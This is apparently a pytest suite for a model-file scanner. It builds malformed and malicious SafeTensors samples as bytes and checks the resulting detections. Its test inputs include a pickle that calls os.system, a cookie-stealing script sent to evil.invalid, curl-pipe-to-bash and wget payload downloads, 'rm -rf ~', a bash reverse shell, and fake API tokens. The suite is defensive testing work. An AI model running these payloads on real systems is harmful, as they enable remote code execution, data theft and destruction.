"""SafeTensors files: THREATS.md 4.8 (header abuse), hidden bytes, metadata heuristics.

Benign files are real ones written by the `safetensors` library (tests/fixtures/safetensors/,
see generate.py there). Malicious and malformed samples are built here as bytes; nothing is
ever loaded.
"""

from __future__ import annotations

import io
import json
import random
import struct
import time
import zipfile
from pathlib import Path

import pytest

from shardscan.limits import Limits
from shardscan.model import Severity
from shardscan.pipeline.runner import Runner, ScanOptions
from shardscan.scanners.indicators import mask as redact
from shardscan.scanners.safetensors import MAX_REPORTED
from tests.findings import only, rules

FIXTURES = Path(__file__).parent / "fixtures" / "safetensors"
BENIGN = sorted(FIXTURES.glob("*.safetensors"))
PICKLE = b"\x80\x02cposix\nsystem\nX\n\x00\x00\x00echo pwned\x85R."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57


def raw(header: bytes, data: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def st(header: dict, data: bytes = b"") -> bytes:
    return raw(json.dumps(header).encode(), data)


def t(dtype: str, shape: list, begin: int, end: int) -> dict:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}



def failing(report) -> list:
    return [(f.rule_id, f.message) for f in report.findings if f.severity >= Severity.WARNING]



def assert_clean_error_free(report) -> None:
    """Never a traceback: a scanner failure shows up as the object's error."""
    assert "scanner failed" not in (report.error or ""), report.error


# --- real benign files ------------------------------------------------------------------------


def test_fixtures_exist():
    assert len(BENIGN) >= 8
    assert all(p.stat().st_size < 16 * 1024 for p in BENIGN)


@pytest.mark.parametrize("path", BENIGN, ids=[p.name for p in BENIGN])
def test_real_benign_files_are_clean(path):
    report = Runner(ScanOptions()).run([str(path)]).objects[0]
    assert report.status == "scanned", report.error
    assert report.format == "safetensors"
    assert not failing(report)
    assert rules(report) <= {"STF012"}


def test_real_file_renamed_is_routed_by_content(scan_bytes):
    report = scan_bytes((FIXTURES / "multi.safetensors").read_bytes(), "pytorch_model.bin")
    assert report.format == "safetensors" and report.status == "scanned"
    assert report.findings == []


def test_kohya_paths_are_info_only():
    report = Runner(ScanOptions()).run([str(FIXTURES / "lora_kohya_metadata.safetensors")]).objects[0]
    [path] = only(report, "STF012")
    assert path.severity == Severity.INFO and "ss_sd_model_name" in path.message


def test_valid_hand_built_layouts_are_clean(scan_bytes):
    header = {"__metadata__": {"format": "pt"}, "a": t("F32", [2], 0, 8), "e": t("F16", [0, 3], 8, 8),
              "s": t("I64", [], 8, 16), "f4": t("F4", [2, 2], 16, 18), "f6": t("F6_E3M2", [4], 18, 21)}
    report = scan_bytes(st(header, b"\1" * 21), "m.safetensors")
    assert report.findings == [], report.findings


# --- STF001: unreadable headers ---------------------------------------------------------------


@pytest.mark.parametrize(("data", "why"), [
    (b"\x10\0\0", "cannot hold"),
    (struct.pack("<Q", 2**63) + b"{}", "past the end"),
    (struct.pack("<Q", 2**62) + b"{}", "past the end"),                    # THREATS 4.8 hugehdr
    (struct.pack("<Q", 2**64 - 1) + b'{"a":1}', "past the end"),
    (struct.pack("<Q", 50) + b'{"a": {"dtype": "F32"', "past the end"),    # truncated header
    (struct.pack("<Q", 4) + b"\x80\x04N.", "UTF-8"),                       # pickle where JSON is expected
    (raw(b"(dp0\n."), "JSON object"),
    (raw(b'{"\xe9": 1}'), "UTF-8"),
    (raw(b"[]"), "JSON object"),
    (raw(b""), "JSON object"),
    (raw(b'{"a": NaN}'), "NaN"),
    (raw(b"{}x"), "Extra data"),
    (raw(b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), "RecursionError"),
    (raw(b'{"a": 1' + b"9" * 5000 + b"}"), "not valid JSON"),
    (raw(b'{"\\ud800x": ' + json.dumps(t("U8", [1], 0, 1)).encode() + b"}", b"\0"), "surrogate"),
])
def test_unreadable_header(data, why, scan_bytes):
    report = scan_bytes(data, "model.safetensors")
    assert_clean_error_free(report)
    assert report.format == "safetensors"
    hits = only(report, "STF001")
    assert all(f.severity == Severity.WARNING for f in hits)
    assert any(why in f.message for f in hits), [f.message for f in hits]


def test_header_length_is_never_allocated(scan_bytes):
    start = time.monotonic()
    report = scan_bytes(struct.pack("<Q", 2**63 - 1) + b"{" + b" " * 100, "x.safetensors")
    assert time.monotonic() - start < 5
    [f] = report.findings
    assert f.rule_id == "STF001" and f.evidence["declared"] == 2**63 - 1


def test_header_over_the_format_maximum(tmp_path):
    path = tmp_path / "big.safetensors"
    n = 100_000_001
    with path.open("wb") as fh:
        fh.write(struct.pack("<Q", n) + b"{")
        fh.truncate(8 + n + 16)  # sparse: nothing is read beyond the length
    report = Runner(ScanOptions()).run([str(path)]).objects[0]
    [f] = report.findings
    assert f.rule_id == "STF001" and "maximum" in f.message


def test_header_over_the_configured_limit(scan_bytes):
    data = st({"a": t("U8", [4], 0, 4), "__metadata__": {"pad": "x" * 2000}}, b"\0" * 4)
    report = scan_bytes(data, "x.safetensors", limits=Limits(max_safetensors_header=1024))
    [f] = report.findings
    assert f.rule_id == "FMT005" and f.severity == Severity.WARNING


def test_empty_file(scan_bytes):
    report = scan_bytes(b"", "x.safetensors")
    assert report.status == "error" and "empty" in (report.error or "")


@pytest.mark.parametrize("seed", range(8))
def test_random_bytes_never_crash(seed, scan_bytes):
    rng = random.Random(seed)
    data = bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 4096)))
    report = scan_bytes(data, "x.safetensors")
    assert_clean_error_free(report)
    if report.format == "safetensors":
        assert "STF001" in rules(report)


@pytest.mark.parametrize("cut", [1, 7, 8, 20, -30, -1])
def test_truncated_real_file(cut, scan_bytes):
    data = (FIXTURES / "multi.safetensors").read_bytes()
    report = scan_bytes(data[:cut], "x.safetensors")
    assert_clean_error_free(report)
    if report.format != "safetensors":  # one byte of header length can read as text
        return
    assert failing(report), report.findings
    assert rules(report) & {"STF001", "STF005"}


# --- STF002: duplicate keys -------------------------------------------------------------------


def test_duplicate_tensor_name(scan_bytes):
    entry = json.dumps(t("U8", [1], 0, 1)).encode()
    report = scan_bytes(raw(b'{"w": ' + entry + b', "w": ' + entry + b"}", b"\0"), "x.safetensors")
    [dup] = only(report, "STF002")
    assert dup.severity == Severity.WARNING and "'w'" in dup.message


def test_duplicate_metadata_key(scan_bytes):
    report = scan_bytes(raw(b'{"__metadata__": {"format": "pt", "format": "tf"}}'), "x.safetensors")
    assert rules(report) == {"STF002"}


# --- STF003-STF005: tensor entries ----------------------------------------------------------


@pytest.mark.parametrize(("entry", "why"), [
    (t("F33", [1], 0, 4), "unknown dtype"),
    (t("f32", [1], 0, 4), "unknown dtype"),
    (t(["F32"], [1], 0, 4), "unknown dtype"),
    (t("F32", [-1], 0, 4), "not a size"),
    (t("F32", [1.0], 0, 4), "not a size"),
    (t("F32", [True], 0, 4), "not a size"),
    (t("F32", [2**64], 0, 4), "not a size"),
    (t("F32", "1", 0, 4), "not a list"),
    (t("F32", [1] * 65, 0, 4), "dimensions"),
    (t("F32", [1] * 100_000, 0, 4), "dimensions"),
    (t("U8", [2**40, 2**40, 0], 0, 0), "2**64 elements"),
    (t("F64", [2**62], 0, 4), "overflows 64 bits"),
    (t("F32", [1], 4, 0), "data_offsets"),
    (t("F32", [1], -4, 0), "data_offsets"),
    ({"dtype": "F32", "shape": [1], "data_offsets": [0, 4, 8]}, "data_offsets"),
    ({"dtype": "F32", "shape": [1]}, "missing data_offsets"),
    ({"shape": [1], "data_offsets": [0, 4]}, "missing dtype"),
    ("F32", "not an object"),
    (None, "not an object"),
])
def test_malformed_entry(entry, why, scan_bytes):
    report = scan_bytes(st({"a": entry}, b"\0" * 4), "x.safetensors")
    assert_clean_error_free(report)
    hits = only(report, "STF003")
    assert all(f.severity == Severity.WARNING for f in hits)
    assert any(why in f.message for f in hits), [f.message for f in hits]


def test_huge_shape_is_cheap(scan_bytes):
    report = scan_bytes(st({"a": t("F32", [2**63, 2**63], 0, 4)}, b"\0" * 4), "x.safetensors")
    assert "STF003" in rules(report)


@pytest.mark.parametrize(("entry", "why"), [
    (t("F32", [2, 2], 0, 4), "needs 16 bytes"),
    (t("F32", [0], 0, 4), "needs 0 bytes"),
    (t("F4", [3], 0, 4), "inside a byte"),
])
def test_span_disagrees_with_shape(entry, why, scan_bytes):
    report = scan_bytes(st({"a": entry}, b"\0" * 4), "x.safetensors")
    [f] = only(report, "STF004")
    assert f.severity == Severity.WARNING and why in f.message


def test_offsets_past_the_data(scan_bytes):
    report = scan_bytes(st({"a": t("F32", [4], 0, 16)}, b"\0" * 8), "x.safetensors")
    [f] = only(report, "STF005")
    assert f.severity == Severity.WARNING and f.evidence["end"] == 16 and f.evidence["data_size"] == 8
    assert "STF008" not in rules(report)


def test_findings_per_rule_are_bounded(scan_bytes):
    header = {f"t{i}": t("BAD", [1], i, i + 1) for i in range(1000)}
    report = scan_bytes(st(header, b"\0" * 1000), "x.safetensors")
    hits = only(report, "STF003")
    assert len(hits) == MAX_REPORTED + 1
    assert any(f.evidence.get("count") == 1000 for f in hits)


# --- STF006-STF009: layout --------------------------------------------------------------------


def test_overlap_threats_sample(scan_bytes):
    data = st({"a": t("F32", [2, 2], 0, 16), "b": t("F32", [2, 2], 8, 24)}, b"\0" * 24)
    report = scan_bytes(data, "overlap.safetensors")
    [f] = only(report, "STF006")
    assert f.severity == Severity.WARNING and "'b'" in f.message and "'a'" in f.message
    assert f.offset == len(data) - 24 + 8


def test_empty_tensor_inside_another(scan_bytes):
    report = scan_bytes(st({"a": t("U8", [2], 0, 2), "b": t("U8", [0], 1, 1)}, b"\0\0"), "x.safetensors")
    [f] = only(report, "STF006")
    assert "empty tensor" in f.message


def test_zero_gap_between_tensors(scan_bytes):
    data = st({"a": t("U8", [4], 0, 4), "b": t("U8", [4], 8, 12)}, b"\1" * 4 + b"\0" * 4 + b"\1" * 4)
    report = scan_bytes(data, "x.safetensors")
    [gap] = only(report, "STF007")
    start = len(data) - 12 + 4
    assert gap.severity == Severity.WARNING
    assert (gap.evidence["start"], gap.evidence["end"], gap.evidence["content"]) == (start, start + 4, "zero bytes")
    assert gap.offset == start


def test_pickle_hidden_in_a_gap(scan_bytes):
    gap = PICKLE + b"\0" * 3
    data = st({"a": t("U8", [4], 0, 4), "b": t("U8", [4], 4 + len(gap), 8 + len(gap))},
              b"\1" * 4 + gap + b"\1" * 4)
    report = scan_bytes(data, "model.safetensors")
    [hidden] = only(report, "STF007")
    assert hidden.evidence["content"] == "pickle" and "scanned" in hidden.message
    [rce] = only(report, "PKL102")
    assert rce.severity == Severity.CRITICAL
    assert hidden.evidence["start"] <= rce.offset < hidden.evidence["end"]
    # the same bytes under another name still reach this scanner by content
    renamed = scan_bytes(data, "pytorch_model.bin")
    assert renamed.format == "safetensors" and {"STF007", "PKL102"} <= rules(renamed)


def test_elf_hidden_in_a_gap(scan_bytes):
    data = st({"a": t("U8", [1], 0, 1), "b": t("U8", [1], 1 + len(ELF), 2 + len(ELF))}, b"\1" + ELF + b"\1")
    report = scan_bytes(data, "x.safetensors")
    assert {"STF007", "FMT003"} <= rules(report)


def test_machine_code_hidden_in_a_gap_is_critical(scan_bytes):
    import struct

    elf = (b"\x7fELF\x02\x01\x01" + b"\0" * 9
           + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
           + b"\x90" * 64)
    data = st({"a": t("U8", [1], 0, 1), "b": t("U8", [1], 1 + len(elf), 2 + len(elf))}, b"\1" + elf + b"\1")
    report = scan_bytes(data, "x.safetensors")
    [f] = only(report, "BIN001")
    assert f.severity == Severity.CRITICAL and "ELF" in f.message
    assert f.offset == data.index(b"\x7fELF")


def test_trailing_bytes(scan_bytes):
    data = st({"a": t("U8", [4], 0, 4)}, b"\1" * 4 + b"junk" * 4)
    report = scan_bytes(data, "x.safetensors")
    [f] = only(report, "STF008")
    assert f.severity == Severity.WARNING and f.evidence["length"] == 16 and f.evidence["end"] == len(data)


def test_pickle_appended_after_the_last_tensor(scan_bytes):
    report = scan_bytes(st({"a": t("U8", [4], 0, 4)}, b"\1" * 4 + PICKLE), "x.safetensors")
    assert {"STF008", "PKL102"} <= rules(report)


def test_zip_appended_after_the_last_tensor(scan_bytes):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", PICKLE)
    report = scan_bytes(st({"a": t("U8", [4], 0, 4)}, b"\1" * 4 + buf.getvalue()), "x.safetensors")
    assert {"STF008", "PKL102"} <= rules(report)
    [rce] = only(report, "PKL102")
    assert rce.location.startswith("hidden@")


def test_data_with_no_tensors_is_trailing(scan_bytes):
    report = scan_bytes(st({"__metadata__": {"format": "pt"}}, PICKLE), "x.safetensors")
    assert {"STF008", "PKL102"} <= rules(report)


def test_many_gaps_are_bounded(scan_bytes):
    n = 2000
    header = {f"t{i}": t("U8", [1], 2 * i, 2 * i + 1) for i in range(n)}
    report = scan_bytes(st(header, b"\1\2" * n), "x.safetensors")
    assert_clean_error_free(report)
    hits = only(report, "STF007")
    assert len(hits) == MAX_REPORTED + 1 and any(f.evidence.get("count") == n - 1 for f in hits)
    assert "STF008" in rules(report)


def test_out_of_order_entries_are_info(scan_bytes):
    report = scan_bytes(st({"b": t("U8", [1], 1, 2), "a": t("U8", [1], 0, 1)}, b"\0\0"), "x.safetensors")
    [f] = report.findings
    assert f.rule_id == "STF009" and f.severity == Severity.INFO


# --- STF010-STF014: metadata ------------------------------------------------------------------


@pytest.mark.parametrize("meta", [{"a": 1}, {"a": None}, {"a": ["x"]}, ["format", "pt"], "pt", 3])
def test_metadata_not_a_map_of_strings(meta, scan_bytes):
    report = scan_bytes(st({"__metadata__": meta}), "x.safetensors")
    [f] = only(report, "STF010")
    assert f.severity == Severity.WARNING


def test_null_metadata_is_accepted(scan_bytes):
    assert scan_bytes(st({"__metadata__": None}), "x.safetensors").findings == []


@pytest.mark.parametrize(("value", "label"), [
    ("<script>fetch('https://evil.invalid/'+document.cookie)</script>", "script markup"),
    ("<img src=x onerror=alert(1)>", "script markup"),
    ("__import__('os').system('id')", "python import"),
    ("import os; os.system('id')", "python import"),
    ("eval(compile('1', 'x', 'exec'))", "python eval/exec"),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "python introspection"),
    ("curl -s https://evil.invalid/x.sh | bash", "shell download"),
    ("wget http://evil.invalid/payload", "shell download"),
    ("bash -c 'rm -rf ~'", "shell command"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "shell command"),
    ("powershell -enc AAAA", "shell command"),
])
def test_metadata_with_code(value, label, scan_bytes):
    report = scan_bytes(st({"__metadata__": {"format": "pt", "note": value}}), "x.safetensors")
    [f] = only(report, "STF011")
    assert f.severity == Severity.WARNING and label in f.evidence["kinds"] and f.evidence["key"] == "note"


@pytest.mark.parametrize("value", [
    "https://huggingface.co/org/model", "s3://bucket/ckpt", "/etc/passwd", "C:\\Users\\me\\model.ckpt",
    "../../outside", "~/.ssh/id_rsa",
])
def test_metadata_with_places_is_info(value, scan_bytes):
    report = scan_bytes(st({"__metadata__": {"source": value}}), "x.safetensors")
    assert rules(report) == {"STF012"}
    assert not failing(report)


@pytest.mark.parametrize("value", ["pt", "tf", "flax", "225", "networks.lora", "a cat on a mat",
                                   "8c7b6a5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f", "1.0", "{\"img\": {\"a\": 3}}",
                                   "evaluation of the model (compile time)", "see the tokenizer"])
def test_ordinary_metadata_is_silent(value, scan_bytes):
    report = scan_bytes(st({"__metadata__": {"format": "pt", "note": value, "ss_max_token_length": "225"}}),
                        "x.safetensors")
    assert report.findings == [], report.findings


SECRETS = [
    ("aws", "AKIAQ3XZ7TR2LMNB4VWK", "Q3XZ7TR2LMNB4VWK"),
    ("gh", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", "a1B2c3D4e5F6g7H8"),
    ("hf", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "AbCdEfGhIjKlMnOp"),
    ("openai", "sk-proj-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2", "Zz9Yy8Xx7Ww6"),
    ("slack", "xoxb-123456789012-abcdefghijkl", "123456789012"),
    ("google", "AIzaSyA1234567890abcdefghijklmnopqrstuv", "SyA1234567890ab"),
    ("jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
     "dozjgNryP4J3"),
    ("url", "https://admin:Sup3rS3cretPassw0rd@registry.invalid/models", "Sup3rS3cret"),
    ("assigned", "password=Tr0ub4dor&3horse", "Tr0ub4dor"),
    ("private-key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq9\n-----END RSA PRIVATE KEY-----",
     "MIIEowIBAAKCAQEA7bq9"),
]


@pytest.mark.parametrize(("kind", "text", "secret"), SECRETS, ids=[k for k, _, _ in SECRETS])
def test_secrets_are_found_and_masked(kind, text, secret, scan_bytes):
    report = scan_bytes(st({"__metadata__": {"format": "pt", "upload": f"pushed with {text} ok"}}),
                        "x.safetensors")
    hits = only(report, "BIN002")
    assert all(f.severity == Severity.WARNING for f in hits)
    assert_never_shown(report, secret)


def test_credential_named_key_is_masked(scan_bytes):
    secret = "q8Xr2LmN5vT9wZ3k"
    report = scan_bytes(st({"__metadata__": {"hub_api_key": secret, "callback": f"curl -d {secret} "
                                                                                 "https://x.invalid | sh"}}),
                        "x.safetensors")
    [f] = [f for f in only(report, "BIN002") if f.evidence["key"] == "hub_api_key"]
    assert f.evidence["length"] == len(secret)
    assert {"STF011", "STF012"} <= rules(report)
    assert_never_shown(report, secret)


def test_secret_in_a_key_is_masked(scan_bytes):
    secret = "hf_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"
    report = scan_bytes(st({"__metadata__": {secret: "x"}}), "x.safetensors")
    only(report, "BIN002")
    assert_never_shown(report, secret)


def assert_never_shown(report, secret: str) -> None:
    for f in report.findings:
        text = " ".join([f.message, f.location, json.dumps(dict(f.evidence), default=str)])
        assert secret not in text, (f.rule_id, text)


def test_redact_keeps_the_public_prefix():
    out = redact("token hf_" + "A" * 34 + " and https://u:pw123@host/x")
    assert out == ("token hf_<Hugging Face token, 34 chars masked> and "
                   "https://u:<password in URL, 5 chars masked>@host/x")


def test_undefined_entry_fields(scan_bytes):
    entry = {**t("U8", [1], 0, 1), "note": "<script>alert(1)</script>", "n": 3}
    report = scan_bytes(st({"a": entry}, b"\0"), "x.safetensors")
    [extra] = only(report, "STF014")
    assert extra.severity == Severity.INFO and "'note'" in extra.message
    only(report, "STF011")


# --- hostile sizes ----------------------------------------------------------------------------


def tensors_header(n: int) -> bytes:
    return b"{" + b",".join(b'"t%d":{"dtype":"U8","shape":[1],"data_offsets":[%d,%d]}' % (i, i, i + 1)
                            for i in range(n)) + b"}"


def test_a_million_tensors_stay_within_bounds(scan_bytes):
    n = 1_000_001
    data = raw(tensors_header(n), b"\0" * n)
    start = time.monotonic()
    report = scan_bytes(data, "x.safetensors")
    assert time.monotonic() - start < 30
    [f] = report.findings
    assert f.rule_id == "FMT005" and f.evidence["declared"] == n


def test_many_valid_tensors_are_checked(scan_bytes):
    n = 50_000
    report = scan_bytes(raw(tensors_header(n), b"\0" * n), "x.safetensors")
    assert report.status == "scanned" and report.findings == []
    report = scan_bytes(raw(tensors_header(n), b"\0" * n), "y.safetensors",
                        limits=Limits(max_safetensors_tensors=1000))
    assert rules(report) == {"FMT005"}


def test_timeout_keeps_what_was_found(scan_bytes):
    report = scan_bytes(raw(tensors_header(20_000), b"\0" * 20_001), "x.safetensors", timeout=1e-9)
    assert_clean_error_free(report)


# --- detection --------------------------------------------------------------------------------


def test_header_length_that_looks_like_pickle_magic(scan_bytes):
    """A header length of 0x280/0x380/0x480/0x580 (mod 65536) starts with bytes that read as a
    pickle PROTO opcode: the SafeTensors structure decides first."""
    header = json.dumps({"w": t("U8", [1], 0, 1)}).encode()
    header += b" " * (0x280 - len(header))
    report = scan_bytes(raw(header, b"\0"), "model.safetensors")
    assert report.format == "safetensors"
